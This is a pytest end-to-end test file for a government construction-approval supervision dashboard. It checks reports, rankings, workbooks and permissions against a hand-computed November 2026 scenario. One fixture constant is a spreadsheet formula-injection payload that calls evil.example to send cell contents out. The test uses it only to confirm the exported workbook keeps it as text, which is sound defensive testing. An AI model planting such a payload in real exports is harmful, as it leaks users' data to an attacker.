"""Supervision figures end to end on a suite of their own (so that no other test's data enters the counts): a small
fixed November 2026 scenario whose figures are worked out by hand below, checked in the dashboard, the league
table, the monthly report (JSON, printable page, XLSX), the assessment and the scheduling sheet; and who may see
what.

The scenario, on the 2026 calendar (1–30 November has no holiday; 7–8, 14–15, 21–22, 28–29 are weekends):
- P01 (low_risk, 45 working days before the reform) runs all four stages. S1 is accepted Monday 2 November and every S1 item approved
  Thursday 5 November: 3 working days used (3, 4, 5). S2 is accepted 5 November and approved Monday 9 November:
  2 working days (6, 9). S3 and S4 are accepted and approved on 9 November: 0 days each. The project used
  3 + 2 + 0 + 0 = 5 working days of the 45 before the reform: compression 1 − 5/45 = 0.8889.
  An item is on time when its used days ≤ its effective limit; S1 items with a limit under 3 and S2 items with a
  limit under 2 are late, by (used − limit) working days.
- P02: S1 accepted 2 November 09:30 and left lying: on Friday 20 November each of its items has used 14 working
  days, so those with an effective limit under 14 are red now and belong in the scheduling sheet.
- zjj gets three questions on Monday 2 November 10:00 (due 17:30 that day): one answered at 11:00 (on time), one the
  next morning (late, flagged by the supervisor as late), one never: due 3, replied 2, on time 1 → reply rate
  2/3 = 0.6667, timely rate 1/3 = 0.3333.
- e01 rates one approved zjj item with 2 stars: ratings 1, satisfied 0, bad 1, a rectification opens.
"""

from __future__ import annotations

import io
import sqlite3

import pytest
from openpyxl import load_workbook

from tests.e2e.conftest import own_vhost, start_suite, wait_until
from tests.e2e.test_approval_flow import upload_missing
from tools.api import ApiError
from tools.seed import project_ids

pytestmark = pytest.mark.e2e

WEIGHTS = {"on_time_rate": 40, "compression": 20, "timely_rate": 20, "satisfaction_rate": 20}
LATE_FLAG_PENALTY = 2
# what an enterprise may type: in the workbook it must stay text, never a formula a spreadsheet would run
COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"多次补正")'


@pytest.fixture(scope="module")
def own(tmp_path_factory):
    with own_vhost() as amqp_url:
        s = start_suite(tmp_path_factory.mktemp("var-supervision"), amqp_url)
        yield s
        s.stop()


def run_stage(own, e01, pid, stage, accept_at, approve_at):
    own.set_clock(accept_at)
    upload_missing(e01, pid, stage)
    e01.post(f"/projects/{pid}/stages/{stage}/submit")
    accepted = own.login("window-officer").post(f"/projects/{pid}/stages/{stage}/actions", json={"action": "accept"})
    own.set_clock(approve_at)
    for it in accepted["items"]:
        own.login(f"{it['department']}-officer").post(f"/items/{it['id']}/actions", json={"action": "approve"})
    return accepted["items"]


@pytest.fixture(scope="module")
def scenario(own):
    e01, supervisor = own.login("e01"), own.login("supervisor")
    p01 = project_ids(e01)["P01"]
    decided = []
    for stage, accept_at, approve_at, used in (
        ("S1", "2026-11-02 09:00", "2026-11-05 10:00", 3),
        ("S2", "2026-11-05 11:00", "2026-11-09 10:00", 2),
        ("S3", "2026-11-09 11:00", "2026-11-09 12:00", 0),
        ("S4", "2026-11-09 13:00", "2026-11-09 14:00", 0),
    ):
        for it in run_stage(own, e01, p01, stage, accept_at, approve_at):
            decided.append((it["department"], it["effective_days"], used))
    assert e01.get(f"/projects/{p01}")["status"] == "completed"

    # questions to zjj
    own.set_clock("2026-11-02 10:00")
    qs = [
        e01.post(
            "/consultations", json={"department": "zjj", "subject": f"问题{i}", "body": "请问施工许可的办理条件？"}
        )
        for i in range(3)
    ]
    zjj = own.login("zjj-officer")
    own.set_clock("2026-11-02 11:00")
    zjj.post(f"/consultations/{qs[0]['id']}/replies", json={"body": "请见办事指南。"})
    own.set_clock("2026-11-03 09:00")
    zjj.post(f"/consultations/{qs[1]['id']}/replies", json={"body": "已电话联系。"})
    supervisor.post(f"/consultations/{qs[1]['id']}/flags", json={"kind": "late", "note": "超过当日答复时限"})

    # a 2-star rating of an approved zjj item
    zjj_item = next(i for s in e01.get(f"/projects/{p01}")["stages"] for i in s["items"] if i["department"] == "zjj")
    invitation = wait_until(
        lambda: next(
            (i for i in e01.get("/ratings/invitations")["invitations"] if i["subject_id"] == zjj_item["id"]), None
        ),
        30,
        "the invitation to rate the zjj item",
    )
    e01.post("/ratings", json={"invitation_id": invitation["id"], "score": 2, "comment": COMMENT})

    # P02 (of enterprise E02): S1 accepted and left lying until 20 November
    owner = own.login("e02")
    other = project_ids(owner)["P02"]
    own.set_clock("2026-11-02 09:30")
    upload_missing(owner, other, "S1")
    owner.post(f"/projects/{other}/stages/S1/submit")
    lying = own.login("window-officer").post(f"/projects/{other}/stages/S1/actions", json={"action": "accept"})
    own.set_clock("2026-11-20 10:00")
    return {"decided": decided, "p01": p01, "p02": other, "lying": lying["items"], "zjj_item": zjj_item}


def workdays_nov_2026(after: int, until: int) -> int:
    """Working days d with `after` < d ≤ `until` in November 2026 (no holidays; weekends only)."""
    return sum(1 for d in range(after + 1, until + 1) if (d - 2) % 7 < 5)  # 2 November 2026 is a Monday


def expected_by_department(decided):
    rows: dict[str, dict] = {}
    for dept, limit, used in decided:
        r = rows.setdefault(dept, {"decided": 0, "on_time": 0, "ratio_sum": 0.0})
        r["decided"] += 1
        r["on_time"] += used <= limit
        r["ratio_sum"] += used / limit if limit else used
    return rows


def test_dashboard_figures_match_the_hand_computed_scenario(own, scenario):
    supervisor = own.login("supervisor")
    summary = supervisor.get("/dashboard/summary")
    assert summary["as_of"] == "2026-11-20"
    assert summary["legend"] == {"blue": "超前", "yellow": "正常", "red": "滞后"}
    assert summary["projects"]["completed"] == 1
    compression = summary["compression"]
    assert compression["finished"] == 1 and compression["ratio"] == round(1 - 5 / 45, 4)
    (general,) = compression["by_type"]
    assert general["project_type"] == "low_risk" and general["average_days"] == 5
    # P02's S1 items, accepted on 2 November, have used 14 working days by 20 November
    used_now = workdays_nov_2026(2, 20)
    assert used_now == 14
    red_now = sum(1 for it in scenario["lying"] if it["effective_days"] < used_now)
    assert summary["items"]["red"] == red_now
    assert summary["projects"]["by_colour"]["red"] >= 1
    for colour, n in summary["projects"]["by_colour"].items():  # as the project list colours them
        assert supervisor.get("/projects", params={"colour": colour, "limit": 1})["total"] == n, colour
    assert sum(summary["projects"]["running_by_colour"].values()) == summary["projects"]["in_progress"]
    consultation = summary["consultation"]
    assert (consultation["due"], consultation["replied"], consultation["replied_on_time"]) == (3, 2, 1)
    assert consultation["reply_rate"] == 0.6667 and consultation["timely_rate"] == 0.3333
    assert summary["ratings"] == {"ratings": 1, "satisfaction_rate": 0.0}
    materials = summary["materials"]
    assert materials["asked_one_by_one"] > materials["uploaded"] > 0
    assert materials["reduction"] == round(1 - materials["uploaded"] / materials["asked_one_by_one"], 4)


def test_league_table_and_monthly_report_with_workbook(own, scenario):
    supervisor = own.login("supervisor")
    expected = expected_by_department(scenario["decided"])
    league = {
        r["department"]: r for r in supervisor.get("/dashboard/departments", params={"month": "2026-11"})["departments"]
    }
    # P02's items, open since 2 November, are late now (20 November) when their limit is under 14 working days
    red_now: dict[str, int] = {}
    for it in scenario["lying"]:
        if it["effective_days"] < 14:
            red_now[it["department"]] = red_now.get(it["department"], 0) + 1
    for dept, e in expected.items():
        row = league[dept]
        assert (row["items_decided"], row["items_on_time"]) == (e["decided"], e["on_time"]), dept
        assert row["red_open"] == red_now.get(dept, 0)
        assert row["on_time_rate"] == round(e["on_time"] / (e["decided"] + red_now.get(dept, 0)), 4)
        assert row["average_used_ratio"] == pytest.approx(e["ratio_sum"] / e["decided"], abs=1e-4)
    zjj = league["zjj"]
    assert (zjj["questions_due"], zjj["reply_rate"], zjj["timely_rate"], zjj["late_flags"]) == (3, 0.6667, 0.3333, 1)
    assert zjj["bad_ratings"] == 1 and zjj["satisfaction_rate"] == 0.0
    rows = list(league.values())
    assert [r["rank"] for r in rows] == sorted(r["rank"] for r in rows)
    for a, b in zip(rows, rows[1:]):  # a shared rank only for departments level on every measure
        if a["rank"] == b["rank"]:
            keys = ("on_time_rate", "timely_rate", "satisfaction_rate", "average_used_ratio", "red_open")
            assert all(a[k] == b[k] for k in keys), (a, b)

    report = supervisor.get("/reports/monthly", params={"month": "2026-11"})
    assert report["title"] == "2026年11月工程建设项目审批督查通报"
    total = sum(e["decided"] for e in expected.values())
    on_time = sum(e["on_time"] for e in expected.values())
    late_now = sum(red_now.values())
    assert report["city"]["items_decided"] == total
    assert report["city"]["on_time_rate"] == round(on_time / (total + late_now), 4)
    assert report["compression"]["ratio"] == round(1 - 5 / 45, 4)
    late_decided = [(d, limit, used) for d, limit, used in scenario["decided"] if used > limit]
    overdue = report["overdue_items"]
    assert sum(1 for o in overdue if o["status"] == "approved") == len(late_decided)
    assert sorted(o["days_overdue"] for o in overdue if o["status"] == "approved") == sorted(
        used - limit for _, limit, used in late_decided
    )
    open_late = [o for o in overdue if o["status"] in ("accepted", "suspended")]
    assert report["city"]["red_open"] == len(open_late) > 0
    for dept in {o["department"] for o in open_late}:
        (row,) = [d for d in report["departments"] if d["department"] == dept]
        assert row["red_open"] == sum(1 for o in open_late if o["department"] == dept)
    assert [f["kind_zh"] for f in report["flagged_replies"]] == ["答复不及时"]
    (bad,) = report["bad_ratings"]
    assert bad["score"] == 2 and bad["rectification"]["status"] == "open"

    page = supervisor.raw("GET", "/reports/monthly", params={"month": "2026-11", "format": "html"})
    assert (
        page.headers["Content-Type"].startswith("text/html") and "2026年11月" in page.text and "通报批评" in page.text
    )

    xlsx = supervisor.raw("GET", "/reports/monthly", params={"month": "2026-11", "format": "xlsx"})
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["概况", "部门排名", "超期事项", "通报批评", "差评整改", "考核排名"]
    overview = {row[0]: row[1] for row in book["概况"].iter_rows(min_row=4, values_only=True) if row[0]}
    assert (
        overview["办结审批事项（件）"] == total
        and overview["按时办结率（含在办超期）"] == report["city"]["on_time_rate"]
    )
    assert overview["留言按时答复率"] == report["city"]["timely_rate"]
    sheet = list(book["部门排名"].iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[2], r[3]) for r in sheet] == [
        (d["name_zh"], d["items_decided"], d["on_time_rate"]) for d in report["departments"]
    ]
    assert sorted(r[7] for r in book["超期事项"].iter_rows(min_row=2, values_only=True)) == sorted(
        o["days_overdue"] for o in overdue
    )
    (comment,) = [c for row in book["差评整改"].iter_rows(min_row=2) for c in row if c.value == COMMENT]
    assert comment.data_type == "s"  # stored as text: no formula cell anywhere in the workbook
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_assessment_scores_follow_the_weights(own, scenario):
    supervisor = own.login("supervisor")
    result = supervisor.get("/reports/assessment", params={"period": "2026-10..2026-11"})
    assert result["weights"] == WEIGHTS
    zjj = next(d for d in result["departments"] if d["department"] == "zjj")
    e = expected_by_department(scenario["decided"])["zjj"]
    # zjj's items of P02, accepted on 2 November, still open and late at the end of the period (20 November)
    red_open = sum(1 for it in scenario["lying"] if it["department"] == "zjj" and it["effective_days"] < 14)
    on_time = e["on_time"] / (e["decided"] + red_open)
    compression = max(0.0, 1 - e["ratio_sum"] / e["decided"])
    timely, satisfaction = 1 / 3, 0.0
    by_hand = 40 * on_time + 20 * compression + 20 * timely + 20 * satisfaction - LATE_FLAG_PENALTY
    assert zjj["score"] == pytest.approx(by_hand, abs=0.05)
    basis = {m["measure"]: m["basis"] for m in zjj["measures"]}
    assert basis["timely_rate"] == "按时答复 1 / 应答复 3"
    assert basis["on_time_rate"] == f"按时办结 {e['on_time']} / (办结 {e['decided']} + 期末超期未办结 {red_open})"
    assert zjj["deductions"] == [
        {"penalty": "late_flag", "name_zh": "答复不及时被通报", "count": 1, "per_flag": 2.0, "points": -2.0}
    ]
    scored = [d for d in result["departments"] if d["score"] is not None]
    for higher, lower in zip(scored, scored[1:]):  # equal scores share a rank; a lower score ranks below
        assert (higher["rank"] == lower["rank"]) == (higher["score"] == lower["score"])
        assert higher["rank"] <= lower["rank"]


def test_scheduling_sheet_lists_open_problems_with_the_responsible(own, scenario):
    sheet = own.login("supervisor").get("/reports/scheduling")
    groups = {g["department"]: g for g in sheet["departments"]}
    red_depts = {it["department"] for it in scenario["lying"] if it["effective_days"] < 14}
    assert red_depts and red_depts <= set(groups)
    for dept in red_depts:
        assert {p["role"] for p in groups[dept]["responsible"]} == {"dept_head", "contact"}
        assert all("****" in p["phone"] for p in groups[dept]["responsible"])
    assert len(groups["zjj"]["overdue_questions"]) == 1  # the one never answered
    assert sheet["totals"]["red_items"] == sum(len(g["red_items"]) for g in groups.values())


def test_department_head_sees_only_their_department_and_others_are_refused(own, scenario):
    head = own.login("zjj-head")
    summary = head.get("/dashboard/summary")
    assert summary["department"] == "zjj" and summary["materials"] is None
    assert {d["department"] for d in summary["items"]["by_department"]} <= {"zjj"}
    league = head.get("/dashboard/departments", params={"month": "2026-11"})["departments"]
    assert [(d["department"], d["rank"]) for d in league] == [("zjj", None)]  # no "rank 1 of 1"
    report = head.get("/reports/monthly", params={"month": "2026-11"})
    assert {o["department"] for o in report["overdue_items"]} <= {"zjj"}
    assert [(d["department"], d["rank"]) for d in report["departments"]] == [("zjj", None)]
    assert [r["rank"] for r in report["ranking"]] == [None]
    assessed = head.get("/reports/assessment", params={"period": "2026-10..2026-11"})["departments"]
    assert [(d["department"], d["rank"]) for d in assessed] == [("zjj", None)]
    assert (
        '<td class="num">—</td><td>住房和城乡建设局</td>'
        in head.raw("GET", "/reports/monthly", params={"month": "2026-11", "format": "html"}).text
    )
    for path, params in (
        ("/dashboard/summary", {"department": "fgw"}),
        ("/reports/monthly", {"month": "2026-11", "department": "fgw"}),
    ):
        with pytest.raises(ApiError) as other:
            head.get(path, params=params)
        assert other.value.status == 403
    for user in ("e01", "zjj-officer"):
        with pytest.raises(ApiError) as refused:
            own.login(user).get("/dashboard/summary")
        assert refused.value.status == 403 and refused.value.problem["detail"].startswith("无权查看督查统计数据")
    screen = own.login("screen")
    assert screen.get("/dashboard/summary")["compression"]["finished"] == 1
    assert len(screen.get("/dashboard/trends", params={"months": 3})["months"]) == 3
    with pytest.raises(ApiError) as report_refused:
        screen.get("/reports/monthly", params={"month": "2026-11"})
    assert report_refused.value.status == 403


def test_trends_follow_the_months(own, scenario):
    trends = own.login("supervisor").get("/dashboard/trends", params={"months": 2})
    assert trends["months"] == ["2026-10", "2026-11"]
    s = trends["series"]
    total = len(scenario["decided"])
    assert s["items_decided"] == [0, total]
    assert s["on_time_rate"][0] is None  # nothing decided in October: no rate, not 0
    # the items still open and late count against the rate in the curve as in the report and the league table
    report = own.login("supervisor").get("/reports/monthly", params={"month": "2026-11"})
    assert report["city"]["red_open"] > 0 and s["on_time_rate"][1] == report["city"]["on_time_rate"]
    league = own.login("supervisor").get("/dashboard/departments", params={"month": "2026-11"})["departments"]
    assert {d["department"]: d["on_time_rate"] for d in league} == {
        d["department"]: d["on_time_rate"] for d in report["departments"]
    }
    assert s["projects_finished"] == [0, 1] and s["compression_ratio"] == [None, round(1 - 5 / 45, 4)]
    assert s["timely_rate"] == [None, 0.3333]


@pytest.mark.parametrize(
    "path, params",
    [
        ("/reports/monthly", {"month": "2026-13"}),
        ("/reports/monthly", {"month": "2027-05"}),
        ("/dashboard/departments", {"month": "2026-12"}),
        ("/reports/assessment", {"period": "2026-11..2026-12"}),
        ("/reports/assessment", {"period": "2026-11..2026-09"}),
        ("/reports/assessment", {"period": "2026-01..2026-12x"}),
        ("/dashboard/trends", {"months": 0}),
        ("/dashboard/summary", {"department": "no_such"}),
        ("/reports/monthly", {"month": "2026-11", "format": "pdf"}),
    ],
)
def test_bad_figure_requests_are_refused_in_chinese(own, scenario, path, params):
    with pytest.raises(ApiError) as refused:
        own.login("supervisor").get(path, params=params)
    assert refused.value.status == 400
    assert refused.value.headers["Content-Type"].startswith("application/problem+json")


def test_a_published_report_is_frozen_numbered_and_read_by_the_departments(own, scenario):
    """Last in this module: it moves the suite's clock into December to publish November."""
    supervisor = own.login("supervisor")
    with pytest.raises(ApiError) as early:  # 20 November: the month has not ended
        supervisor.post("/reports/publications", json={"month": "2026-11"})
    assert early.value.status == 400 and "尚未结束" in early.value.problem["detail"]
    for user in ("zjj-head", "e01"):
        with pytest.raises(ApiError) as refused:
            own.login(user).post("/reports/publications", json={"month": "2026-10"})
        assert refused.value.status == 403

    own.set_clock("2026-12-01 09:00")
    live = supervisor.get("/reports/monthly", params={"month": "2026-11"})
    note = "请各部门对照通报问题于5个工作日内整改到位。"
    published = supervisor.post("/reports/publications", json={"month": "2026-11", "note": note})
    assert (published["number"], published["title"], published["note"]) == ("2026年第1期", live["title"], note)
    assert published["published_by"] == "supervisor" and published["published_at"].startswith("2026-12-01T09:00")
    with pytest.raises(ApiError) as twice:
        supervisor.post("/reports/publications", json={"month": "2026-11", "note": "改一下"})
    assert twice.value.status == 409 and "2026年第1期" in twice.value.problem["detail"]
    with pytest.raises(ApiError) as empty:  # nothing at all happened in October: no report to publish
        supervisor.post("/reports/publications", json={"month": "2026-10"})
    assert empty.value.status == 409 and "没有任何审批、留言或评价数据" in empty.value.problem["detail"]
    second = supervisor.post("/reports/publications", json={"month": "2026-09"})  # the samples were registered
    assert second["number"] == "2026年第2期" and second["note"] == ""
    assert [p["month"] for p in supervisor.get("/reports/publications")["publications"]] == ["2026-11", "2026-09"]
    with sqlite3.connect(own.var / "gateway.db") as db:  # both publications are in the gateway's audit trail
        trail = db.execute(
            "SELECT subject_id, actor, action, to_status, reason FROM audit_entries WHERE subject_type = 'report' ORDER BY id"
        ).fetchall()
    assert trail == [
        ("2026-11", "supervisor", "published", "2026-1", note),
        ("2026-09", "supervisor", "published", "2026-2", ""),
    ]

    # the department answers its rectification afterwards: the live report follows, the published copy does not
    rectification = live["bad_ratings"][0]["rectification"]
    own.login("zjj-officer").post(
        f"/rectifications/{rectification['id']}/actions", json={"action": "respond", "note": "已逐项告知办理要求"}
    )
    after = supervisor.get("/reports/monthly", params={"month": "2026-11"})
    assert after["bad_ratings"][0]["rectification"]["status"] == "responded"
    frozen = supervisor.get("/reports/publications/2026-11")
    assert frozen["bad_ratings"][0]["rectification"]["status"] == "open"
    assert frozen["publication"] == published
    assert {k: frozen[k] for k in ("city", "departments", "overdue_items", "ranking")} == {
        k: live[k] for k in ("city", "departments", "overdue_items", "ranking")
    }

    # a department reads the city's totals and its own rows; the printable page and the workbook carry the issue
    officer = own.login("zjj-officer")
    own_copy = officer.get("/reports/publications/2026-11")
    assert own_copy["city"] == live["city"]
    for key in ("departments", "overdue_items", "flagged_replies", "bad_ratings", "ranking"):
        assert {r["department"] for r in own_copy[key]} <= {"zjj"}
    assert [d["department"] for d in own_copy["departments"]] == ["zjj"]
    city_rank = next(d["rank"] for d in frozen["departments"] if d["department"] == "zjj")
    assert own_copy["departments"][0]["rank"] == city_rank  # the published report keeps the city's rank
    page = officer.raw("GET", "/reports/publications/2026-11", params={"format": "html"})
    assert "2026年第1期" in page.text and note in page.text
    book = load_workbook(
        io.BytesIO(supervisor.raw("GET", "/reports/publications/2026-11", params={"format": "xlsx"}).content)
    )
    assert book["概况"]["C1"].value.startswith("2026年第1期")
    for user, month, status in (("e01", "2026-11", 403), ("screen", "2026-11", 403), ("supervisor", "2026-10", 404)):
        with pytest.raises(ApiError) as refused:
            own.login(user).get(f"/reports/publications/{month}")
        assert refused.value.status == status
